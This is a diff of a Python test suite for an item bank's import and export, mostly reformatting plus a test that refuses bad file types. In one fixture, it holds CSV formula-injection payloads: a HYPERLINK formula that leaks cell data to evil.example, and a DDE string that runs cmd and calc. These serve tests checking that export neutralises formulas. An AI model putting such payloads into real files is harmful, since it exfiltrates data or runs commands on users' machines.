@@ -456,9 +456,12 @@ def test_unreadable_picture_is_refused(surgery, tmp_path):
 
 
 def test_other_file_types_are_refused(db, tmp_path):
-    path = tmp_path / "bank.xlsx"
-    path.write_bytes(b"PK")
-    assert refusal(path) == "bank.xlsx is neither a .json nor a .csv file."
+    path = tmp_path / "bank.txt"
+    path.write_bytes(b"code,topic")
+    assert refusal(path) == "bank.txt is not a .json, .csv or .xlsx file."
+    broken = tmp_path / "bank.xlsx"
+    broken.write_bytes(b"PK")
+    assert refusal(broken).startswith("bank.xlsx is not an Excel workbook")
 
 
 def test_kind_of_an_existing_item_cannot_change(surgery, tmp_path):
@@ -640,8 +643,17 @@ def test_export_then_import_changes_nothing(mixed_bank, tmp_path, suffix):
 def bank_snapshot() -> dict[str, tuple]:
     """Return every item's bookkeeping and current wording, by code."""
     return {
-        item.code: (item.topic.code, item.topic.name, item.kind, item.status, item.difficulty, item.is_sample,
-                    item.current_version.stem, item.current_version.key, item.current_version.guide)
+        item.code: (
+            item.topic.code,
+            item.topic.name,
+            item.kind,
+            item.status,
+            item.difficulty,
+            item.is_sample,
+            item.current_version.stem,
+            item.current_version.key,
+            item.current_version.guide,
+        )
         for item in Item.objects.select_related("topic", "current_version")
     }
 
@@ -771,9 +783,14 @@ FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 def formula_bank(tmp_path: Path) -> None:
     """Items whose texts start like spreadsheet formulas, imported from JSON (which carries them as they are)."""
     items = every_kind()
-    items[0].update(stem='=HYPERLINK("https://evil.example/?"&A1,"Click for the answer")',
-                    options=[{"id": o["id"], "text": f"{start}{o['text']}"} for o, start in zip(OPTIONS, "=+-@'", strict=True)],
-                    guide="@SUM(1+1)*cmd|' /C calc'!A0")
+    items[0].update(
+        stem='=HYPERLINK("https://evil.example/?"&A1,"Click for the answer")',
+        options=[
+            {"id": o["id"], "text": f"{start}{o['text']}"}
+            for o, start in zip(OPTIONS, "=+-@'", strict=True)
+        ],
+        guide="@SUM(1+1)*cmd|' /C calc'!A0",
+    )
     items[1]["stem"] = "+1 is added to which?"
     items[2].update(stem="-5 °C stops clotting.", reason="'quoted on purpose")
     items[3].update(stem="=2+2 is ____.", key=["=4", "four"])
@@ -792,7 +809,7 @@ def test_the_csv_export_neutralises_formulas_and_still_imports_unchanged(surgery
     assert data.startswith("\ufeff".encode())
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
     cells = [cell for row in rows for cell in row]
-    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click for the answer\")" in cells
+    assert '\'=HYPERLINK("https://evil.example/?"&A1,"Click for the answer")' in cells
     assert "'=4|four" in cells and "''quoted on purpose" in cells
     assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
 
@@ -808,7 +825,9 @@ def test_the_csv_export_neutralises_formulas_and_still_imports_unchanged(surgery
     assert again.read_bytes() == data
 
 
-def test_an_item_file_larger_than_the_limit_is_refused_before_it_is_read(surgery, tmp_path, settings):
+def test_an_item_file_larger_than_the_limit_is_refused_before_it_is_read(
+    surgery, tmp_path, settings
+):
     """Issue 10, point 19d: the item import had no size limit; past ITEM_IMPORT_MAX_BYTES it is refused by name."""
     path = write_json(tmp_path / "bank.json", every_kind())
     settings.ITEM_IMPORT_MAX_BYTES = path.stat().st_size - 1
